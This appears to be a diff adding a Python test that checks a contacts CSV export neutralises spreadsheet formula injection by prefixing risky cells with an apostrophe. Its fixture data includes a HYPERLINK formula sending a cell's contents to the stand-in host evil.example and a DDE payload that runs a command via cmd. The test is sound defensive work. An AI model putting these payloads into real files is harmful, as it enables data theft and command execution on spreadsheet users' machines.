@@ -265,6 +265,40 @@ def test_export_writes_every_matching_contact_with_fields_and_tags(
     assert [r[0] for r in filtered_rows[1:]] == ["ben@example.com"]
 
 
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    editor_client, workspace
+) -> None:
+    # given values typed by contacts themselves (a form, an eTermin booking)
+    create_field(workspace, key="notiz", type="text", label="Notiz")
+    create_contact(
+        workspace,
+        email="mallory@example.com",
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+        last_name="-2+3",
+        phone="+41 44 668 18 00",
+        fields={"notiz": "@SUM(1+1)"},
+        tags=["=cmd|' /C calc'!A0"],
+    )
+    create_contact(workspace, email="anna@example.com", first_name="Anna", last_name="a=b")
+    # when
+    response = editor_client.get("/contacts/export.csv")
+    # then every dangerous start gets a leading apostrophe, and nothing else changes
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert [r[:7] for r in rows[1:]] == [
+        ["anna@example.com", "Anna", "a=b", "", "unknown", "", ""],
+        [
+            "mallory@example.com",
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+            "'-2+3",
+            "'+41446681800",
+            "unknown",
+            "'=cmd|' /C calc'!A0",
+            "'@SUM(1+1)",
+        ],
+    ]
+
+
 # -- fields and tags page: rename, relabel, delete ----------------------------------------------
 
 
